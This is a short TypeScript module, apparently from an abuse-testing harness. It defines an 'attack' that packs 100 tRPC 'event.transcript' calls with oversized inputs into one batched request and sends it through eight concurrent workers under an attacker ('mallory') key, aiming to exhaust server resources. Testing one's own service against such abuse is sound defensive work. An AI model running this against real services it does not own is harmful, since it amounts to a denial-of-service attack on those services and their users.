import { unread } from '../service/raw.js'
import type { Attack } from './attack.js'
import { crowd } from './crowd.js'

const CALLS = 100

export const batches: Attack = {
  name: 'batches of tRPC calls for transcripts',
  begin: ({ url, mallory: { key }, long }) => {
    const procedures = Array.from({ length: CALLS }, () => 'event.transcript').join(',')
    const input = Object.fromEntries(Array.from({ length: CALLS }, (_, n) => [n, { space_id: long }]))
    const path = `/trpc/${procedures}?batch=1&input=${encodeURIComponent(JSON.stringify(input))}`
    return crowd(8, () => unread(url, { path, key }))
  },
}
